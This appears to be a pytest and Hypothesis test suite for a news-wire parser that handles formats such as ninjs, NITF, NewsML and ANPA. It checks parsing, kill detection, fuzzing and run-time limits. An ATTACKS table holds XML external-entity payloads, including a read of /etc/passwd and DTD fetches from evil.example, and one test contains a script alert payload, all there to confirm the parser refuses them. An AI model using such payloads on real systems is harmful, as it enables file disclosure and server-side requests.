"""Each format of agencies gives the same story; whatever the bytes are, reading never raises anything but WireError."""

import json
import time
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from wired import anpa, iptc7901, newsml, newsml_g2, ninjs, nitf

from generator.intake.wire_files.compose import compose
from generator.intake.wire_files.drops import Drop
from generator.intake.wire_files.formats import read_items
from generator.intake.wire_files.record import MAX_WIRE_BYTES, Nature, Status, WireError, WireItem, Wrapping

WRAPPING = Wrapping("file", ZoneInfo("Europe/Berlin"))
DROP = Drop(name="ap", folder="content/wires/ap")
SAMPLES = {
    "ninjs": ninjs(),
    "newsml-g2": newsml_g2(),
    "newsml": newsml(),
    "nitf": nitf(),
    "anpa": anpa(),
    "iptc7901": iptc7901(),
}


def read(raw: bytes, asked: str = "auto") -> WireItem:
    [item] = read_items(raw, WRAPPING, asked)
    return item


def why(raw: bytes, asked: str = "auto") -> str:
    with pytest.raises(WireError) as error:
        read_items(raw, WRAPPING, asked)
    return error.value.message


@pytest.mark.parametrize("name", SAMPLES)
def test_each_format_gives_the_story(name: str) -> None:
    item = read(SAMPLES[name], name)
    assert item.headline == "The harbor votes"
    assert item.status is Status.USABLE
    assert item.nature is Nature.STORY
    assert item.sent is not None
    assert item.sent.isoformat() == "2026-11-22T12:00:00+00:00"
    assert "spoke of number 1 at length" in compose(item, DROP).text


@pytest.mark.parametrize("name", SAMPLES)
def test_a_folder_for_another_format_refuses_it(name: str) -> None:
    asked = "nitf" if name != "nitf" else "anpa"
    assert f"is in the format {name}, and the folder is for {asked}" in why(SAMPLES[name], asked)


def test_markup_of_the_text_is_kept_and_pictures_in_it_are_not() -> None:
    html = (
        '<h1>The harbor votes</h1><p>One *star*.</p><figure><img src="https://x.example/a.jpg"><figcaption>A truck'
        "</figcaption></figure><ul><li>Two</li></ul><script>alert(1)</script>Three<br><br>Four<table><tr><td>5</td></tr></table>"
    )
    text = compose(read(ninjs(body_html=html)), DROP).text.split("---\n")[-1].strip()
    assert text.startswith("One \\*star\\*.\n\n-   Two\n\nThree\n\nFour\n\n<table>")
    for words in ("truck", "alert", "harbor votes", "x.example"):
        assert words not in text


def test_all_versions_of_ninjs_are_read_alike() -> None:
    first = {
        "uri": "urn:a", "type": "text", "versioncreated": "2026-11-22T12:00:00Z", "pubstatus": "canceled",
        "embargoed": "2026-11-23T12:00:00Z", "headline": "Head", "body_xhtml": "<p>Words.</p>", "byline": "Ann Poe",
        "description_text": "Sum.", "copyrightholder": "AP",
        "associations": {"a": {"type": "picture", "uri": "u", "renditions": {"m": {"href": "p.jpg", "width": 5}}}},
    }  # fmt: skip
    third = {
        "uri": "urn:a", "type": "text", "versionCreated": "2026-11-22T12:00:00Z", "pubStatus": "canceled",
        "embargoed": "2026-11-23T12:00:00Z", "headlines": [{"role": "main", "value": "Head"}], "by": "Ann Poe",
        "bodies": [{"contentType": "text/plain", "value": "Words."}, {"contentType": "text/html", "value": "<p>Words.</p>"}],
        "descriptions": [{"contentType": "text/plain", "value": "Sum."}], "copyrightHolder": "AP",
        "associations": [{"type": "picture", "uri": "u", "renditions": [{"href": "p.jpg", "width": 5}]}],
    }  # fmt: skip
    second = {key.lower(): value for key, value in third.items()}
    second["bodies"] = [{"contenttype": "text/html", "value": "<p>Words.</p>"}]
    items = [read(json.dumps(one).encode()) for one in (first, second, third)]
    assert items[0] == items[1] == items[2]
    assert items[0].status is Status.KILLED
    assert items[0].pictures[0].files == ("p.jpg", "u")


def test_anpa_is_cut_into_what_it_says() -> None:
    item = read(anpa("BC-US--Harbor Vote, 2nd Ld-Writethru"))
    assert (item.thread, item.opens, item.version) == ("anpa:harbor vote", False, 2)
    assert (item.bylines, item.source, item.categories[:2]) == (("By JANE ROE",), "Associated Press", ("a", "domestic"))
    assert "HARBOR CITY (AP) — The council" in item.text
    assert "“So be it,” she said." in item.text


def test_dpa_is_cut_into_what_it_says() -> None:
    item = read(iptc7901(mark="REFILE\n1ST LEAD"))
    assert (item.headline, item.opens, item.version, item.source) == ("The harbor votes", False, 1, "dpa")
    assert "Ann Poe" not in item.text


def test_several_items_of_one_file_are_all_read() -> None:
    items = [json.loads(ninjs(f"urn:{number}", f"Story {number}")) for number in range(3)]
    for form in (items, {"data": {"items": [{"item": one} for one in items]}}, {"item": items}):
        found = read_items(json.dumps(form).encode(), WRAPPING)
        assert [one.thread for one in found] == ["urn:0", "urn:1", "urn:2"]


@pytest.mark.parametrize("word", ["usable", "withheld", "canceled", "something new"])
def test_a_status_that_is_not_known_withholds_the_story(word: str) -> None:
    wanted = {"usable": Status.USABLE, "canceled": Status.KILLED}.get(word, Status.WITHHELD)
    assert read(ninjs(pubstatus=word)).status is wanted
    assert read(newsml_g2(status=word)).status is wanted
    assert read(nitf(status=word)).status is wanted


@pytest.mark.parametrize(
    ("headline", "status"),
    [
        ("KILL: Mayor resigns", Status.KILLED),
        ("MANDATORY KILL - Mayor resigns", Status.KILLED),
        ("Kill Bill returns to the cinema", Status.USABLE),
        ("KILL BILL RETURNS", Status.USABLE),
        ("Police say story of robbery was withdrawn", Status.USABLE),
        ("Magazine says the story was withdrawn", Status.USABLE),
        ("WITHDRAWAL: Troops leave the valley", Status.USABLE),
    ],
)
def test_a_kill_is_told_from_news_of_killing(headline: str, status: Status) -> None:
    assert read(ninjs(headline=headline)).status is status


def test_news_of_a_story_that_was_withdrawn_is_no_kill() -> None:
    assert read(ninjs(body_html="<p>The magazine said that the story was withdrawn.</p>")).status is Status.USABLE
    assert read(ninjs(ednote="The story was withdrawn.")).status is Status.KILLED
    assert read(anpa("BC-US--Road Kill")).status is Status.USABLE
    assert read(ninjs(headline="BUDGET: Council cuts buses")).nature is Nature.STORY
    assert read(ninjs(headline="ADVISORY: No copy on Monday")).nature is Nature.ADVISORY


@pytest.mark.parametrize(
    ("keywords", "shared", "follows"),
    [
        ("BC-US--Harbor Vote", "harbor vote", False),
        ("BC-US--Harbor Vote, 1st Ld-Writethru", "harbor vote", True),
        ("BC-US--Harbor Vote 2ndLd-Writethru", "harbor vote", True),
        ("BC-US--Harbor Vote, ADV 12, Correction", "harbor vote", True),
        ("BC-US--Kill Bill Sequel", "kill bill sequel", False),
        ("BC-US--Harbor Vote, Update on Costs", "harbor vote", True),
        ("BC-US--Tax Update Plan", "tax update plan", False),
        ("BC-US--Harbor Vote, 1st Add", "harbor vote", False),
    ],
)
def test_keywords_say_what_follows_what(keywords: str, shared: str, follows: bool) -> None:
    item = read(anpa(keywords))
    assert (item.thread, item.opens) == (f"anpa:{shared}", not follows)


def test_a_single_byte_encoding_that_is_declared_wrongly_is_not_garbled() -> None:
    text = nitf(headline="Décès à l'hôpital").replace(b"UTF-8", b"iso-8859-1")
    assert read(text).headline == "Décès à l'hôpital"
    assert read(text.decode().encode("latin-1")).headline == "Décès à l'hôpital"
    assert read(text.decode().replace("iso-8859-1", "UTF-16").encode("utf-16")).headline == "Décès à l'hôpital"


ATTACKS = {
    "external entity": '<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]><nitf>&x;</nitf>',
    "entities in each other": "<!DOCTYPE n [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;'>]><newsItem>&b;</newsItem>",
    "a DTD elsewhere": '<!DOCTYPE nitf SYSTEM "http://evil.example/nitf.dtd"><nitf/>',
    "a parameter entity": '<!DOCTYPE n [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><NewsML/>',
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_dtd_is_refused_in_plain_words(attack: str) -> None:
    assert "DTD" in why(('<?xml version="1.0"?>' + ATTACKS[attack]).encode())


@pytest.mark.parametrize(
    ("raw", "words"),
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (b"Just some words", "no format that Broadsheet reads"),
        (b"\0\1\2\3", "no format that Broadsheet reads"),
        (b"<nitf>", "not well-formed XML: see line 1"),
        (b"<rss/>", "a feed or an export"),
        (b"<strange/>", "begins with <strange>"),
        (b"<NewsML/>", "It holds no item"),
        (b'{"a": 1}', "none has a “uri”"),
        (b'{"uri": ', "can't be read as JSON"),
        (b"[" * 5_000, "can't be read as JSON"),
        (b"ID3" + b"\0" * 50, "recording"),
        (b"<a>" * 500 + b"</a>" * 500, "nested more than 200 deep"),
        (b"x" * (MAX_WIRE_BYTES + 1), "more than 5 MB"),
        (json.dumps([{"uri": str(number)} for number in range(1_001)]).encode(), "more than 1,000 items"),
        (b"\x16\x16\x01a1234\x1f-\nnothing", "first two lines can't be read"),
    ],
)
def test_what_can_not_be_read_is_refused_in_plain_words(raw: bytes, words: str) -> None:
    assert words in why(raw)


def read_or_refuse(raw: bytes) -> None:
    try:
        items = read_items(raw, WRAPPING)
    except WireError as error:
        assert error.message
        assert error.hint
    else:
        for item in items:
            compose(item, DROP)


@given(
    st.binary(max_size=400),
    st.sampled_from([b"", b"<nitf>", b"{", b"[", b"\x16\x16\x01a1234\x1f\n", b"\x01eca123 3 i 9\n"]),
)
def test_any_bytes_are_read_or_refused(raw: bytes, start: bytes) -> None:
    read_or_refuse(start + raw)


@given(st.sampled_from(sorted(SAMPLES)), st.data())
def test_any_damage_of_a_file_is_read_or_refused(name: str, data: st.DataObject) -> None:
    raw = bytearray(SAMPLES[name])
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(raw) - 1))
        raw[at : at + data.draw(st.integers(0, 40))] = data.draw(st.binary(max_size=12))
        if not raw:
            break
    read_or_refuse(bytes(raw))


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=6,
)
KEYS = [
    "type", "version", "versioncreated", "firstcreated", "pubstatus", "embargoed", "headline", "headlines", "bodies",
    "body_html", "body_text", "byline", "by", "subject", "signals", "associations", "renditions", "altids", "language",
    "ednote", "correction", "keywords", "infosource", "expires", "descriptions",
]  # fmt: skip


@given(st.dictionaries(st.sampled_from(KEYS), JSON, max_size=12))
def test_any_values_in_ninjs_are_read_or_refused(values: dict[str, object]) -> None:
    read_or_refuse(json.dumps({"uri": "urn:a", **values}).encode())


LONG = {
    "nested quotes": b'{"uri": "a", "body_html": "%s"}' % (b"<b>" * 40_000),
    "blank lines": b'{"uri": "a", "body_text": "%s"}' % (b"\\n" * 90_000),
    "headline": b'{"uri": "a", "headline": "%s", "body_text": "x"}' % (b"KILL " * 40_000),
    "attributes": b"<nitf>%s</nitf>" % (b"<p> a </p>" * 20_000),
    "head of a mail": b"Subject: a\n" * 20_000,
    "head without a mail": b"a-b: c\n" * 30_000,
    "anpa": anpa() + b"^x" * 90_000,
    "anpa lines": anpa().replace(b"^By", b"^x<\n" * 20_000 + b"^By"),
    "anpa desk": anpa().replace(b"^By", b"".join(b"^line %d<\n" % number for number in range(20_000)) + b"^By"),
    "anpa paragraphs": anpa().replace(b"\t``So", b"and so on\n" * 40_000 + b"\t``So"),
    "iptc": iptc7901() + b"=\n" * 90_000,
    "capitals": b'{"uri": "a", "body_text": "%s"}' % (b"A, " * 60_000),
}


@pytest.mark.parametrize("name", LONG)
def test_the_time_is_in_proportion_to_the_length(name: str) -> None:
    """200 KB take a twentieth of a second or so; what takes the square of that takes minutes."""
    before = time.process_time()
    read_or_refuse(LONG[name])
    assert time.process_time() - before < 5
